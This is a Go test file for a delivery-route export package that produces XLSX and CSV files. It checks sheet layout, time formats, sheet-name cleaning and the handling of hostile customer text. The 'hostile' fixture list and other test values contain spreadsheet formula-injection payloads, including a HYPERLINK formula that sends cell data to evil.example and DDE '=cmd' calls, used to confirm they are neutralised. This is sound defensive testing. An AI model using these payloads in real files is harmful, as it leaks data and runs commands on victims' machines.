package export

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/tealeg/xlsx/v3"

	"routeopt.io/routeopt/api/v1alpha1"
)

var driverHeader = []string{"Seq", "Planned arrival", "Time window", "Order ref", "Customer", "Address", "Phone", "Notes", "Service (min)", "Latitude", "Longitude"}
var plainHeader = []string{"Seq", "Planned arrival", "Time window", "Order ref", "Address", "Service (min)", "Latitude", "Longitude"}

// checkRouteSheet checks a route sheet, read by tealeg/xlsx, cell by cell
// against the result and the orders.
func checkRouteSheet(t *testing.T, sh *xlsx.Sheet, r *v1alpha1.Route, orders map[string]*v1alpha1.Order, driver bool) {
	t.Helper()
	header, first := plainHeader, 0
	if driver {
		header, first = driverHeader, 1
		title := cell(t, sh, 0, 0).Value
		name := "—"
		if r.DriverName != nil {
			name = wantText(*r.DriverName)
		}
		for _, part := range []string{"Driver: " + name, "Vehicle: " + wantText(r.VehicleRef), "Departure: " + hhmmTest(r.DepartS), fmt.Sprintf("%d stops", len(r.Stops))} {
			if !strings.Contains(title, part) {
				t.Errorf("sheet %q: title %q lacks %q", sh.Name, title, part)
			}
		}
	}
	for i, h := range header {
		checkText(t, sh, first, i, h)
	}
	if got, want := sh.MaxRow, first+1+len(r.Stops); got != want {
		t.Errorf("sheet %q: %d rows, want %d (one per stop)", sh.Name, got, want)
	}
	col := func(name string) int { return slices.Index(header, name) }
	for i, s := range r.Stops {
		row := first + 1 + i
		o := orders[s.OrderRef]
		checkNumber(t, sh, row, col("Seq"), float64(s.Seq), 0)
		checkTime(t, sh, row, col("Planned arrival"), s.ArrivalS)
		checkText(t, sh, row, col("Time window"), wantWindow(o))
		checkText(t, sh, row, col("Order ref"), wantText(s.OrderRef))
		checkText(t, sh, row, col("Address"), wantText(s.Address))
		if driver {
			checkText(t, sh, row, col("Customer"), wantText(*o.Customer))
			checkText(t, sh, row, col("Phone"), wantPhoneXLSX(*o.Phone))
			checkText(t, sh, row, col("Notes"), wantText(*o.Notes))
		}
		checkNumber(t, sh, row, col("Service (min)"), *o.ServiceMinutes, 0)
		checkNumber(t, sh, row, col("Latitude"), s.Latitude, 1e-9)
		checkNumber(t, sh, row, col("Longitude"), s.Longitude, 1e-9)
		if c := cell(t, sh, row, col("Latitude")); c.NumFmt != "0.000000" {
			t.Errorf("sheet %q: latitude format %q", sh.Name, c.NumFmt)
		}
	}
}

func hhmmTest(s int) string { return fmt.Sprintf("%02d:%02d", s/3600, s/60%60) }

func TestXLSXRouteSheetsMatchResult(t *testing.T) {
	opt, res := fixture(500, 20, 5)
	orders := ordersByID(opt)
	for _, driver := range []bool{true, false} {
		t.Run(fmt.Sprintf("driver=%v", driver), func(t *testing.T) {
			f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: driver}))
			want := []string{"Summary"}
			for _, r := range res.Routes {
				want = append(want, r.VehicleRef)
			}
			want = append(want, "Unassigned")
			if got := sheetNamesOf(f); !slices.Equal(got, want) {
				t.Fatalf("sheets %q, want %q", got, want)
			}
			for i := range res.Routes {
				checkRouteSheet(t, f.Sheets[1+i], &res.Routes[i], orders, driver)
			}
		})
	}
}

// The night route runs past midnight: its late arrivals are time values
// above 1 shown as [h]:mm, and the csv writes them as 24:00 and beyond.
func TestPastMidnight(t *testing.T) {
	opt, res := fixture(60, 3, 0)
	night := &res.Routes[len(res.Routes)-1]
	last := night.Stops[len(night.Stops)-1]
	if last.ArrivalS < 86400 {
		t.Fatalf("fixture: the night route ends at %d s, before midnight", last.ArrivalS)
	}
	f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	sh := f.Sheet[night.VehicleRef]
	checkRouteSheet(t, sh, night, ordersByID(opt), true)
	c := cell(t, sh, 1+len(night.Stops), 1)
	if v, _ := c.Float(); v <= 1 || c.NumFmt != "[h]:mm" {
		t.Errorf("last arrival %v shown as %q, want > 1 as [h]:mm", v, c.NumFmt)
	}

	rows := readCSV(t, render(t, opt, res, Options{Format: CSV}))
	lastRow := rows[len(rows)-1]
	if got, want := lastRow[slices.Index(rows[0], "Planned arrival")], hhmmTest(last.ArrivalS); got != want || !strings.HasPrefix(got, "2") || got < "24:00" {
		t.Errorf("csv arrival %q, want %q (past 24:00)", got, want)
	}
}

func TestXLSXSummary(t *testing.T) {
	opt, res := fixture(500, 20, 5)
	f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	sh := f.Sheet["Summary"]
	if sh == nil {
		t.Fatal("no Summary sheet")
	}
	checkText(t, sh, 0, 0, "Tuesday deliveries")

	// KPIs: label/value pairs in columns A/B and D/E of rows 2..8.
	kpi := map[string][2]int{}
	for row := 1; row <= 7; row++ {
		for _, col := range []int{0, 3} {
			if label := cell(t, sh, row, col).Value; label != "" {
				kpi[label] = [2]int{row, col + 1}
			}
		}
	}
	at := func(label string) (int, int) {
		p, ok := kpi[label]
		if !ok {
			t.Fatalf("summary has no %q (labels %v)", label, kpi)
		}
		return p[0], p[1]
	}
	k := res.KPIs
	text := func(label, want string) { r, c := at(label); checkText(t, sh, r, c, want) }
	num := func(label string, want, tol float64) { r, c := at(label); checkNumber(t, sh, r, c, want, tol) }
	text("Strategy", "optimized")
	text("Created", "2026-11-23 06:45 UTC")
	text("Depot", "Depot Berlin-Lichtenberg")
	num("Orders total", float64(k.OrdersTotal), 0)
	num("Orders assigned", float64(k.OrdersAssigned), 0)
	num("Orders unassigned", float64(k.OrdersUnassigned), 0)
	num("Vehicles used", float64(k.VehiclesUsed), 0)
	num("Vehicles available", float64(k.VehiclesAvailable), 0)
	num("Distance (km)", float64(k.DistanceM)/1000, 1e-9)
	num("Drive time", float64(k.DriveSeconds)/86400, 1e-12)
	num("Route time", float64(k.RouteSeconds)/86400, 1e-12)
	num("Late stops", float64(k.LateStops), 0)
	num("Average utilization", k.AvgUtilization, 1e-12)
	if r, c := at("Drive time"); cell(t, sh, r, c).NumFmt != "[h]:mm" {
		t.Errorf("drive time format %q, want [h]:mm", cell(t, sh, r, c).NumFmt)
	}
	if r, c := at("Average utilization"); cell(t, sh, r, c).NumFmt != "0.0%" {
		t.Errorf("utilization format %q", cell(t, sh, r, c).NumFmt)
	}

	// The vehicle table: header on row 10, then every vehicle of
	// per_vehicle in order, unused ones with 0 stops and no times.
	header := []string{"Vehicle", "Driver", "Departure", "Return", "Stops", "Distance (km)", "Load", "Capacity", "Utilization"}
	for i, h := range header {
		checkText(t, sh, 9, i, h)
	}
	if got, want := sh.MaxRow, 10+len(k.PerVehicle); got != want {
		t.Fatalf("summary has %d rows, want %d", got, want)
	}
	routes := map[string]*v1alpha1.Route{}
	for i := range res.Routes {
		routes[res.Routes[i].VehicleRef] = &res.Routes[i]
	}
	unused := 0
	for i, v := range k.PerVehicle {
		row := 10 + i
		checkText(t, sh, row, 0, v.VehicleRef)
		checkText(t, sh, row, 1, *opt.Spec.Vehicles[i].Driver)
		checkNumber(t, sh, row, 4, float64(v.Stops), 0)
		checkNumber(t, sh, row, 5, float64(v.DistanceM)/1000, 1e-9)
		checkNumber(t, sh, row, 6, v.Load, 0)
		checkNumber(t, sh, row, 7, v.Capacity, 0)
		checkNumber(t, sh, row, 8, v.Load/v.Capacity, 1e-12)
		if r, ok := routes[v.VehicleRef]; ok {
			checkTime(t, sh, row, 2, r.DepartS)
			checkTime(t, sh, row, 3, r.ReturnS)
		} else {
			unused++
			if v.Stops != 0 {
				t.Fatalf("fixture: unused %s has stops", v.VehicleRef)
			}
			checkText(t, sh, row, 2, "")
			checkText(t, sh, row, 3, "")
		}
	}
	if unused != 2 {
		t.Errorf("%d unused vehicles listed, want 2", unused)
	}
}

func TestXLSXUnassignedSheet(t *testing.T) {
	opt, res := fixture(40, 4, 3)
	res.Unassigned[1].Message = "=cmd|' /C calc'!A0 is not a message"
	f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	sh := f.Sheet["Unassigned"]
	if sh == nil {
		t.Fatalf("no Unassigned sheet in %q", sheetNamesOf(f))
	}
	for i, h := range []string{"Order ref", "Reason", "Message"} {
		checkText(t, sh, 0, i, h)
	}
	if sh.MaxRow != 1+len(res.Unassigned) {
		t.Errorf("%d rows, want %d", sh.MaxRow, 1+len(res.Unassigned))
	}
	for i, u := range res.Unassigned {
		checkText(t, sh, 1+i, 0, u.OrderRef)
		checkText(t, sh, 1+i, 1, u.Reason)
		checkText(t, sh, 1+i, 2, wantText(u.Message))
	}

	res.Unassigned, res.KPIs.OrdersUnassigned = nil, 0
	f = openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	if slices.Contains(sheetNamesOf(f), "Unassigned") {
		t.Errorf("an Unassigned sheet without unassigned orders: %q", sheetNamesOf(f))
	}
}

// Without driver instructions no customer, phone or note reaches the file,
// in any part of the package.
func TestXLSXWithoutDriverInstructionsLeavesCustomerDataOut(t *testing.T) {
	opt, res := fixture(100, 5, 2)
	data := render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: false})
	p := openPkg(t, data)
	for _, o := range opt.Spec.Orders {
		for _, s := range []string{*o.Customer, *o.Phone} {
			for name, part := range p.parts {
				if bytes.Contains(part, []byte(xmlEscape(s))) || bytes.Contains(part, []byte(xmlEscape(wantText(s)))) {
					t.Fatalf("%q found in %s without driver instructions", s, name)
				}
			}
		}
	}
	for _, n := range notes {
		for name, part := range p.parts {
			if bytes.Contains(part, []byte(xmlEscape(n))) {
				t.Fatalf("note %q found in %s without driver instructions", n, name)
			}
		}
	}
}

func xmlEscape(s string) string {
	var b strings.Builder
	for _, r := range s {
		switch r {
		case '&':
			b.WriteString("&amp;")
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '"':
			b.WriteString("&#34;")
		case '\'':
			b.WriteString("&#39;")
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// The package XML says what a reader shows: frozen header rows, print
// titles, landscape fit to one page wide on A4, hh:mm on time cells, column
// widths within bounds and in order.
func TestXLSXPackageXML(t *testing.T) {
	opt, res := fixture(500, 20, 5)
	for _, driver := range []bool{true, false} {
		t.Run(fmt.Sprintf("driver=%v", driver), func(t *testing.T) {
			p := openPkg(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: driver}))
			var st xStyles
			p.decode(t, "xl/styles.xml", &st)
			names, sheets, wb := p.sheets(t)

			headerRows := map[string]int{"Summary": 10, "Unassigned": 1}
			titleFrom := map[string]int{"Summary": 10, "Unassigned": 1}
			for _, r := range res.Routes {
				headerRows[r.VehicleRef], titleFrom[r.VehicleRef] = 1, 1
				if driver {
					headerRows[r.VehicleRef] = 2
				}
			}
			printTitles := map[int]string{}
			for _, dn := range wb.DefinedNames {
				if dn.Name == "_xlnm.Print_Titles" && dn.LocalSheetID != nil {
					printTitles[*dn.LocalSheetID] = dn.Value
				}
			}
			for i, name := range names {
				ws := sheets[name]
				n := headerRows[name]
				if ws.Pane.State != "frozen" || ws.Pane.YSplit != fmt.Sprint(n) || ws.Pane.XSplit != "" || ws.Pane.TopLeftCell != fmt.Sprintf("A%d", n+1) {
					t.Errorf("%s: pane %+v, want %d frozen rows", name, ws.Pane, n)
				}
				if want := fmt.Sprintf("'%s'!$%d:$%d", name, titleFrom[name], n); printTitles[i] != want {
					t.Errorf("%s: print titles %q, want %q", name, printTitles[i], want)
				}
				ps := ws.PageSetup
				if ps.Orientation != "landscape" || ps.FitToWidth != "1" || ps.FitToHeight != "0" || ps.PaperSize != "9" {
					t.Errorf("%s: page setup %+v, want landscape, 1 page wide, A4 (9)", name, ps)
				}
				if fp := ws.SheetPr.PageSetUpPr.FitToPage; fp != "true" && fp != "1" {
					t.Errorf("%s: fitToPage %q: Excel ignores fitToWidth without it", name, fp)
				}
				for j, c := range ws.Cols {
					if c.Min != j+1 || c.Max != j+1 {
						t.Errorf("%s: cols out of order: %+v", name, ws.Cols)
						break
					}
					if c.Width < 5 || c.Width > 90 {
						t.Errorf("%s: column %d width %v out of bounds", name, c.Min, c.Width)
					}
				}
				for _, row := range ws.Rows {
					for _, c := range row.Cells {
						if c.F != nil {
							t.Errorf("%s %s: a formula %q", name, c.R, *c.F)
						}
					}
				}
			}

			// Route sheets: every arrival cell (column B below the header)
			// is a number formatted hh:mm, or [h]:mm past midnight.
			for _, r := range res.Routes {
				ws := sheets[r.VehicleRef]
				first := headerRows[r.VehicleRef] + 1
				for i, s := range r.Stops {
					c := ws.cell(fmt.Sprintf("B%d", first+i))
					if c == nil || c.T != "" {
						t.Fatalf("%s B%d: %+v is not a number", r.VehicleRef, first+i, c)
					}
					want := "hh:mm"
					if s.ArrivalS >= 86400 {
						want = "[h]:mm"
					}
					if got := st.numFmt(c.S); got != want {
						t.Errorf("%s B%d: number format %q, want %q", r.VehicleRef, first+i, got, want)
					}
				}
				// Widths fit the contents within bounds: notes are long and
				// hit their bound, the seq column stays narrow.
				widths := map[string]float64{}
				hdr := plainHeader
				if driver {
					hdr = driverHeader
				}
				for j, h := range hdr {
					widths[h] = ws.Cols[j].Width
				}
				if widths["Seq"] > 6 || widths["Address"] < 30 || widths["Address"] > 36 {
					t.Errorf("%s: widths %v", r.VehicleRef, widths)
				}
				if driver && widths["Notes"] != 40 {
					t.Errorf("%s: notes width %v, want its bound 40", r.VehicleRef, widths["Notes"])
				}
			}
		})
	}
}

func TestPaperSize(t *testing.T) {
	opt, res := fixture(20, 2, 0)
	for i := range opt.Spec.Orders {
		opt.Spec.Orders[i].Country = ptr("USA")
	}
	p := openPkg(t, render(t, opt, res, Options{Format: XLSX}))
	_, sheets, _ := p.sheets(t)
	for name, ws := range sheets {
		if ws.PageSetup.PaperSize != "1" {
			t.Errorf("%s: paper size %q for US orders, want Letter (1)", name, ws.PageSetup.PaperSize)
		}
	}
}

// validSheetName is Excel's rule, written out independently.
var forbiddenSheetChars = regexp.MustCompile(`[:\\/?*\[\]]`)

func checkSheetNames(t *testing.T, names []string) {
	t.Helper()
	seen := map[string]bool{}
	for _, n := range names {
		if n == "" || len(utf16.Encode([]rune(n))) > 31 || forbiddenSheetChars.MatchString(n) ||
			strings.HasPrefix(n, "'") || strings.HasSuffix(n, "'") || strings.EqualFold(n, "History") ||
			strings.TrimSpace(n) == "" {
			t.Errorf("invalid sheet name %q", n)
		}
		if k := strings.ToLower(n); seen[k] {
			t.Errorf("sheet name %q repeats (ignoring case)", n)
		} else {
			seen[k] = true
		}
	}
}

func TestSheetNames(t *testing.T) {
	refs := []string{
		"Van 1", "VAN 1", "van 1", // collide ignoring case
		"North/South: 3", `a\b?c*d[e]f`, // forbidden characters
		"History", "history", "Summary", "Unassigned", // reserved by Excel or by us
		"'quoted'", "   ", "", "\t\n", // apostrophes at the ends, blank
		"A vehicle name that is much longer than thirty-one characters",
		"A vehicle name that is much longer than thirty-one characters, too",
		strings.Repeat("🚚", 16) + " emoji count twice",
		"Route", "route (2)",
	}
	want := []string{
		"Van 1", "VAN 1 (2)", "van 1 (3)",
		"North-South- 3", "a-b_c_d(e)f",
		"History (2)", "history (3)", "Summary (2)", "Unassigned (2)",
		"quoted", "Route", "Route (2)", "Route (3)",
		"A vehicle name that is much lon",
		"A vehicle name that is much (2)",
		strings.Repeat("🚚", 15),
		"Route (4)", "route (2) (2)",
	}
	n := newSheetNames("Summary", "Unassigned")
	var got []string
	for _, r := range refs {
		got = append(got, n.add(r))
	}
	if !slices.Equal(got, want) {
		for i := range got {
			if got[i] != want[i] {
				t.Errorf("%q → %q, want %q", refs[i], got[i], want[i])
			}
		}
	}
	checkSheetNames(t, got)

	// End to end: a workbook whose vehicles carry these references opens in
	// another reader with valid, unique sheet names, and each route sheet
	// holds its own route.
	opt, res := fixture(len(refs)*2, len(refs), 1)
	for i := range res.Routes {
		res.Routes[i].VehicleRef = refs[i]
		res.KPIs.PerVehicle[i].VehicleRef = refs[i]
	}
	f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	names := sheetNamesOf(f)
	checkSheetNames(t, names)
	if !slices.Equal(names[1:len(names)-1], want) {
		t.Errorf("workbook sheets %q, want %q", names[1:len(names)-1], want)
	}
	orders := ordersByID(opt)
	for i := range res.Routes {
		checkRouteSheet(t, f.Sheets[1+i], &res.Routes[i], orders, true)
	}
}

// hostile is customer text meant to break a spreadsheet or a csv parser.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"Track your parcel")`,
	"+1",
	"-2",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"=1",
	`She said "ring twice", then left`,
	"a,b,,c",
	"line one\nline two\n",
	"first\r\nsecond",
	"مرحبا، التسليم إلى الباب الخلفي",
	"שלום, נא להתקשר לפני ההגעה",
	"📦🚚 👩‍👩‍👧‍👦 ✅ 🇩🇪",
	"e\u0301 n\u0303 Z\u0351\u0337a\u0320l\u0360g\u0315o",
	"\u202Egnp.exe",
	"  leading and trailing spaces  ",
	"O'Brien's \"Pub\"; <b>&amp;</b>",
	"_x0041_ is not an A",
	"+49 30 1234567",
}

// hostileFixture puts the hostile strings in every text field that reaches
// the file: order ref, customer, address, phone, notes, vehicle and driver.
func hostileFixture() (*v1alpha1.Optimization, *v1alpha1.Result) {
	opt, res := fixture(len(hostile), 1, 0)
	r := &res.Routes[0]
	r.VehicleRef = "=cmd|' /C calc'!A0"
	r.DriverName = ptr("@Driver \"Bob\", the 🚚")
	res.KPIs.PerVehicle[0].VehicleRef = r.VehicleRef
	opt.Spec.Vehicles[0].ID, opt.Spec.Vehicles[0].Driver = r.VehicleRef, r.DriverName
	orders := ordersByID(opt)
	n := len(hostile)
	for i := range r.Stops {
		s := &r.Stops[i]
		o := orders[s.OrderRef]
		o.ID = fmt.Sprintf("%s #%d", hostile[i], i)
		s.OrderRef = o.ID
		o.Customer = ptr(hostile[i])
		s.Customer = o.Customer
		o.Phone = ptr(hostile[(i+1)%n])
		o.Notes = ptr(hostile[(i+2)%n])
		s.Address = hostile[(i+3)%n]
	}
	return opt, res
}

func TestXLSXHostileText(t *testing.T) {
	opt, res := hostileFixture()
	data := render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true})
	r := &res.Routes[0]

	// tealeg/xlsx: the sheet, its name cleaned, reads back cell by cell.
	f := openBook(t, data)
	checkSheetNames(t, sheetNamesOf(f))
	if got := f.Sheets[1].Name; got != "=cmd|' -C calc'!A0" {
		t.Errorf("sheet name %q", got)
	}
	checkRouteSheet(t, f.Sheets[1], r, ordersByID(opt), true)
	if title := cell(t, f.Sheets[1], 0, 0).Value; !strings.Contains(title, "Driver: '@Driver \"Bob\", the 🚚") {
		t.Errorf("title %q", title)
	}

	// The XML itself: every text is an inline string (t="inlineStr", never a
	// <f> formula), exact to the character, white space included.
	p := openPkg(t, data)
	names, sheets, _ := p.sheets(t)
	ws := sheets[names[1]]
	orders := ordersByID(opt)
	for i, s := range r.Stops {
		o := orders[s.OrderRef]
		row := 3 + i
		for col, want := range map[string]string{
			"D": wantText(s.OrderRef), "E": wantText(*o.Customer), "F": wantText(s.Address),
			"G": wantPhoneXLSX(*o.Phone), "H": wantText(*o.Notes),
		} {
			c := ws.cell(fmt.Sprintf("%s%d", col, row))
			if c == nil || c.T != "inlineStr" || c.F != nil {
				t.Fatalf("%s%d: %+v, want an inline string", col, row, c)
			}
			if got := c.text(); got != want {
				t.Errorf("%s%d: got %q, want %q", col, row, got, want)
			}
		}
	}
	// Spot checks of the neutralisation itself.
	for _, c := range []struct{ in, want string }{
		{hostile[0], "'" + hostile[0]},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\n=1+1"},
		{"first\r\nsecond", "first\nsecond"},
		{"+49 30 1234567", "'+49 30 1234567"},
		{"O'Brien", "O'Brien"},
	} {
		if got := cellText(c.in); got != c.want {
			t.Errorf("cellText(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriteErrors(t *testing.T) {
	opt, res := fixture(10, 1, 0)
	if err := Write(&bytes.Buffer{}, opt, res, Options{Format: "pdf"}); !errors.Is(err, ErrUnknownFormat) {
		t.Errorf("pdf: %v", err)
	}
	if err := Write(&bytes.Buffer{}, opt, res, Options{}); !errors.Is(err, ErrUnknownFormat) {
		t.Errorf("empty format: %v", err)
	}
	if err := Write(&bytes.Buffer{}, nil, res, Options{Format: CSV}); err == nil {
		t.Error("nil optimization accepted")
	}
	if err := Write(&bytes.Buffer{}, opt, nil, Options{Format: XLSX}); err == nil {
		t.Error("nil result accepted")
	}
	// A writer that fails (a client gone away) fails Write, whatever the
	// format and wherever the failure comes.
	for _, format := range []Format{XLSX, CSV} {
		full := render(t, opt, res, Options{Format: format, IncludeDriverInstructions: true})
		for _, n := range []int{0, 1, len(full) / 2, len(full) - 1} {
			w := &failingWriter{left: n}
			if err := Write(w, opt, res, Options{Format: format, IncludeDriverInstructions: true}); err == nil {
				t.Errorf("%s: a writer failing after %d of %d bytes: no error", format, n, len(full))
			}
		}
	}
}

type failingWriter struct{ left int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) <= w.left {
		w.left -= len(p)
		return len(p), nil
	}
	n := w.left
	w.left = 0
	return n, errors.New("connection reset")
}

// An empty result (every order unassigned) still renders.
func TestEmptyResult(t *testing.T) {
	opt, res := fixture(0, 0, 3)
	f := openBook(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	if got := sheetNamesOf(f); !slices.Equal(got, []string{"Summary", "Unassigned"}) {
		t.Errorf("sheets %q", got)
	}
	rows := readCSV(t, render(t, opt, res, Options{Format: CSV, IncludeDriverInstructions: true}))
	if len(rows) != 1 {
		t.Errorf("csv of no stops has %d rows, want the header only", len(rows))
	}
}

// Rows with wrapped text are written tall enough for it (spreadsheets do
// not all grow rows when they open a file), one-line rows keep the default.
func TestXLSXRowHeights(t *testing.T) {
	opt, res := fixture(40, 2, 0)
	r := &res.Routes[0]
	orders := ordersByID(opt)
	orders[r.Stops[0].OrderRef].Notes = ptr("Short.")
	orders[r.Stops[0].OrderRef].Customer = ptr("Ann")
	r.Stops[0].Customer = ptr("Ann")
	r.Stops[0].Address = "Main St 1"
	orders[r.Stops[1].OrderRef].Notes = ptr("First line\nsecond line\nthird line")
	orders[r.Stops[2].OrderRef].Notes = ptr(strings.Repeat("word ", 100)) // 500 characters
	p := openPkg(t, render(t, opt, res, Options{Format: XLSX, IncludeDriverInstructions: true}))
	_, sheets, _ := p.sheets(t)
	ws := sheets[r.VehicleRef]
	height := map[int]float64{}
	for _, row := range ws.Rows {
		height[row.R] = row.Ht
	}
	if height[3] != 0 {
		t.Errorf("one-line row: height %v, want the default", height[3])
	}
	if height[4] < 45 {
		t.Errorf("three-line note: height %v, want at least 45 pt", height[4])
	}
	// 500 characters in a 40-wide column: at least 13 lines.
	if height[5] < 13*15 || height[5] > 409 {
		t.Errorf("long note: height %v, want 195..409 pt", height[5])
	}
	if height[2] < 30 {
		t.Errorf("header row with wrapped headers: height %v, want two lines", height[2])
	}
}

func TestWrappedLines(t *testing.T) {
	for _, c := range []struct {
		s     string
		width float64
		want  int
	}{
		{"Short.", 20, 1},
		{"one two three", 9, 2},
		{"one\ntwo", 20, 2},
		{"one\n\nthree", 20, 3},
		{strings.Repeat("x", 30), 11, 3},
		{strings.Repeat("ab ", 20), 11, 7}, // a line holds 10 characters: "ab ab ab"
		{"火曜日の配達", 7, 2},                   // wide characters count twice
	} {
		if got := wrappedLines(c.s, c.width); got != c.want {
			t.Errorf("wrappedLines(%q, %v) = %d, want %d", c.s, c.width, got, c.want)
		}
	}
}

// An error that is not the writer's own comes before the first byte: the
// REST side can still answer with an error status.
func TestWriteFailsBeforeWriting(t *testing.T) {
	opt, res := fixture(10, 1, 0)
	var w countingWriter
	if err := Write(&w, opt, res, Options{Format: "ods"}); err == nil || w.n != 0 {
		t.Errorf("unknown format: err %v after %d bytes", err, w.n)
	}
}
